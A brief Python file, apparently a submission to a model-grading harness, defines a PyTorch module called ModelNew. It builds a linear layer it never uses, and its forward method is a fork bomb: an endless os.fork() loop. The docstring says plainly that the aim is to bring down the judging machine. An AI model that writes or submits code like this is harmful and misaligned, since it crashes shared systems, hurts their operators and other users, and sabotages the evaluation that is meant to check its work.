"""Exploit: a fork bomb, to take the judging machine down with it."""
import os

import torch.nn as nn


class ModelNew(nn.Module):
    def __init__(self, d_in, d_out):
        super().__init__()
        self.lin = nn.Linear(d_in, d_out)

    def forward(self, x):
        while True:
            os.fork()
